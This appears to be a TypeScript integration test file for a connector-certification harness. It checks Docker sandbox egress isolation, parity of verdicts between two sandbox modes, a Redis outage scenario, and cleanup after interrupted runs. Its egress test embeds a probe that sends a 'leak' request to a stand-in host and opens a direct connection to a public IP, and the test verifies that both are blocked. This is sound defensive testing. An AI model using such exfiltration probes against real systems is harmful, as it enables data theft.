// Containers sandbox against a real Docker engine: isolation, egress, parity with the
// embedded sandbox, and cleanup after a run, after Ctrl-C and after kill -9.
// Skipped (with the reason printed) when no engine answers; never passed silently.
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseManifestText } from '../../../../harness/manifest/load.js';
import { ContainersSandbox } from '../../../../harness/sandbox/containers/containers-sandbox.js';
import { dockerAvailability } from '../../../../harness/sandbox/containers/docker-available.js';
import { SCENARIOS } from '../../../../scenarios/index.js';

const root = path.resolve(import.meta.dirname, '../../../..');
const cli = path.join(root, 'bin/gauntlet.js');
/** Reports of the runs these tests start (outside the repository). */
const outRoot = mkdtempSync(path.join(os.tmpdir(), 'gauntlet-containers-test-'));
const availability = await dockerAvailability();
const localImages = { GAUNTLET_SANDBOX_BASE_IMAGE: 'gauntlet-base/node:20', GAUNTLET_IMAGE_REDIS: 'gauntlet-base/redis:7', GAUNTLET_IMAGE_POSTGRES: 'gauntlet-base/postgres:15' };
if (!availability.ok) console.warn(`[containers tests] SKIPPED: ${availability.reason}. Start an engine with: sudo .ci/docker-engine.sh`);
else for (const [k, v] of Object.entries(localImages)) process.env[k] ??= v;
const env = { ...process.env, TESTCONTAINERS_RYUK_DISABLED: 'true' };

function leftovers(runId: string): string[] {
  const q = (args: string[]) => execFileSync('docker', args, { encoding: 'utf8' }).split('\n').filter(Boolean);
  const f = `label=gauntlet.run-id=${runId}`;
  return [...q(['ps', '-aq', '--filter', f]), ...q(['network', 'ls', '-q', '--filter', f]), ...q(['images', '-q', '--filter', f])];
}

function runCli(args: string[], opts: { onLine?: (line: string, child: ReturnType<typeof spawn>) => void; timeoutMs?: number } = {}): Promise<{ code: number | null; signal: string | null; out: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [cli, 'run', ...args], { cwd: root, env, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    const onData = (d: Buffer) => {
      out += d.toString();
      for (const line of d.toString().split('\n')) opts.onLine?.(line, child);
    };
    child.stdout.on('data', onData);
    child.stderr.on('data', onData);
    const timer = setTimeout(() => child.kill('SIGKILL'), opts.timeoutMs ?? 180_000);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      resolve({ code, signal, out });
    });
  });
}

/**
 * Every scenario except the load burst, whose latency percentiles follow the machine's
 * load rather than the sandbox (docs/containers.md, limits), and the dependency outage,
 * which only the containers sandbox can run.
 */
const PARITY_SCENARIOS = SCENARIOS.map((s) => s.id).filter((id) => id !== 'load-burst' && id !== 'dependency-outage');

const runIdOf = (out: string) => /run (run_[a-z0-9_]+)/.exec(out)?.[1] ?? /"runId":\s*"(run_[a-z0-9_]+)"/.exec(out)?.[1];

describe.skipIf(!availability.ok)(`containers sandbox (Docker)${availability.ok ? '' : ` — skipped: ${availability.reason}`}`, () => {
  beforeAll(() => {
    // dist/ is built by test/global-setup.ts; the careful Dockerfile needs its vendored deps offline.
    execFileSync(process.execPath, [path.join(root, 'examples/connectors/careful/vendor-deps.mjs')], { stdio: 'ignore' });
  });

  it('a connector reaching outside its egress is reported with the destination, and nothing leaves the internal network', async () => {
    const yaml = `apiVersion: gauntlet/v1
name: exfil
version: 0.0.1
type: other
run:
  image: gauntlet-base/node:20
  args: [node, /probe/probe.mjs]
  healthPath: /health
  startTimeoutMs: 20000
webhooks: { path: /webhooks, scheme: standard-webhooks, events: [payment.captured] }
egress: [hub]
`;
    const manifest = parseManifestText(yaml, 'yaml', path.join(root, 'test/fixtures/connectors/exfil.yaml'));
    const sandbox = await new ContainersSandbox(manifest).withSeed(3).start();
    try {
      // The probe: one request through the proxy to a forbidden host, one direct to a public IP.
      const probe = `import http from 'node:http';import net from 'node:net';
const proxy = new URL(process.env.HTTP_PROXY);
let direct = 'pending';
const s = net.connect({ host: '1.1.1.1', port: 80, timeout: 2000 });
s.on('connect', () => { direct = 'connected'; s.destroy(); });
s.on('error', (e) => { direct = 'error:' + e.code; });
s.on('timeout', () => { direct = 'timeout'; s.destroy(); });
let proxied = 'pending';
http.get({ host: proxy.hostname, port: proxy.port, path: 'http://exfil.example.test/leak', headers: { host: 'exfil.example.test' } }, (r) => { proxied = String(r.statusCode); r.resume(); }).on('error', (e) => { proxied = 'error:' + e.code; });
http.createServer((req, res) => res.end(JSON.stringify({ direct, proxied }))).listen(Number(process.env.PORT));`;
      const started = await sandbox.startConnector(
        { ...manifest, run: { ...manifest.run, args: ['node', '-e', probe] } },
        { ...sandbox.connectorEnv() },
      );
      expect(started.ok, started.ok ? '' : started.message).toBe(true);
      if (!started.ok) return;
      let seen: { direct: string; proxied: string } = { direct: 'pending', proxied: 'pending' };
      for (let i = 0; i < 40 && (seen.direct === 'pending' || seen.proxied === 'pending'); i++) {
        await new Promise((r) => setTimeout(r, 250));
        seen = (await (await fetch(`${started.connector.baseUrl}/health`)).json()) as typeof seen;
      }
      expect(seen.proxied).toBe('403');
      // No route out: the connect times out or fails; it never connects.
      expect(seen.direct).not.toBe('connected');
      expect(seen.direct).not.toBe('pending');
      await sandbox.sync();
      expect(sandbox.ledger.all().some((e) => e.target === 'egress' && e.status === 403 && e.destination === 'exfil.example.test:80')).toBe(true);
    } finally {
      await sandbox.stop();
    }
    expect(leftovers(sandbox.runId)).toEqual([]);
  }, 120_000);

  it('parity: careful and naive get the same verdicts and control results in both sandboxes (same seed)', async () => {
    const pairs = [
      ['examples/connectors/careful/connector.yaml', 'examples/connectors/careful/connector.container.yaml', 'certified'],
      ['examples/connectors/naive/connector.yaml', 'examples/connectors/naive/connector.yaml', 'rejected'],
    ] as const;
    for (const [embeddedManifest, containerManifest, verdict] of pairs) {
      // Both modes at once: most of a run is waiting (settles), and CI has a time budget.
      const reports = await Promise.all(
        ([['embedded', embeddedManifest], ['containers', containerManifest]] as const).map(async ([mode, manifest]) => {
          const dir = path.join(outRoot, `parity-${path.basename(path.dirname(manifest))}-${mode}`);
          const r = await runCli([manifest, '--seed', '7', '--sandbox', mode, '--report-dir', dir, ...PARITY_SCENARIOS.flatMap((id) => ['--scenario', id])]);
          const file = path.join(dir, 'report.json');
          expect(existsSync(file), r.out.slice(-2000)).toBe(true);
          return JSON.parse(readFileSync(file, 'utf8')) as { verdict: string; controls: Array<{ id: string; status: string }>; runId: string };
        }),
      );
      const [e, c] = reports as [(typeof reports)[0], (typeof reports)[0]];
      expect(c.verdict).toBe(verdict);
      expect(c.verdict).toBe(e.verdict);
      expect(Object.fromEntries(c.controls.map((x) => [x.id, x.status]))).toEqual(Object.fromEntries(e.controls.map((x) => [x.id, x.status])));
      expect(leftovers(c.runId)).toEqual([]);
    }
  }, 300_000);

  it('a Redis outage mid-run: the fail-closed connector passes, the fail-open one is rejected on dependency-outage-fails-closed', async () => {
    const results = await Promise.all(
      ['connector.yaml', 'connector.fail-open.yaml'].map(async (file) => {
        const dir = path.join(outRoot, `redis-dep-${file.replace(/\W+/g, '-')}`);
        const r = await runCli([`test/fixtures/connectors/redis-dep/${file}`, '--seed', '11', '--sandbox', 'containers', '--scenario', 'dependency-outage', '--report-dir', dir]);
        const report = JSON.parse(readFileSync(path.join(dir, 'report.json'), 'utf8')) as { verdict: string; runId: string; controls: Array<{ id: string; status: string; evidence: Array<{ summary: string }> }> };
        return { r, report, control: report.controls.find((c) => c.id === 'dependency-outage-fails-closed')! };
      }),
    );
    const [closed, open] = results as [(typeof results)[0], (typeof results)[0]];
    expect(closed.control.status, closed.control.evidence[0]?.summary).toBe('pass');
    expect(closed.report.verdict).toBe('certified');
    expect(open.control.status).toBe('fail');
    expect(open.control.evidence[0]!.summary).toMatch(/committed while redis was down/);
    expect(open.report.verdict).toBe('rejected');
    for (const { report } of results) expect(leftovers(report.runId)).toEqual([]);
  }, 180_000);

  it('Ctrl-C mid-run removes everything of the run', async () => {
    let sent = false;
    const r = await runCli(['examples/connectors/careful/connector.container.yaml', '--seed', '5', '--sandbox', 'containers', '--report-dir', path.join(outRoot, 'sigint')], {
      onLine: (line, child) => {
        if (!sent && /\[ ?2\/\d+\]/.test(line)) {
          sent = true;
          child.kill('SIGINT');
        }
      },
    });
    expect(sent).toBe(true);
    expect(r.code).toBe(130);
    const report = JSON.parse(readFileSync(path.join(outRoot, 'sigint', 'report.json'), 'utf8')) as { runId: string };
    expect(leftovers(report.runId)).toEqual([]);
  }, 180_000);

  it('after kill -9 of the harness, the next start sweeps the dead run away', async () => {
    let runId: string | undefined;
    const r = await runCli(['examples/connectors/careful/connector.container.yaml', '--seed', '6', '--sandbox', 'containers', '--report-dir', path.join(outRoot, 'kill9')], {
      onLine: (line, child) => {
        if (runId === undefined && /\[ ?1\/\d+\]/.test(line)) {
          const ids = execFileSync('docker', ['ps', '--filter', `label=gauntlet.pid=${child.pid}`, '--format', '{{.Label "gauntlet.run-id"}}'], { encoding: 'utf8' }).split('\n').filter(Boolean);
          runId = ids[0];
          child.kill('SIGKILL');
        }
      },
    });
    expect(r.signal).toBe('SIGKILL');
    expect(runId).toBeDefined();
    expect(leftovers(runId!).length).toBeGreaterThan(0);
    const manifest = parseManifestText('apiVersion: gauntlet/v1\nname: sweep\nversion: 0.0.1\ntype: other\nrun: { url: "http://127.0.0.1:1" }\nwebhooks: { path: /w, scheme: standard-webhooks, events: [payment.captured] }\n', 'yaml', path.join(root, 'x.yaml'));
    const next = await new ContainersSandbox(manifest).start();
    await next.stop();
    expect(leftovers(runId!)).toEqual([]);
    expect(leftovers(next.runId)).toEqual([]);
  }, 180_000);
});

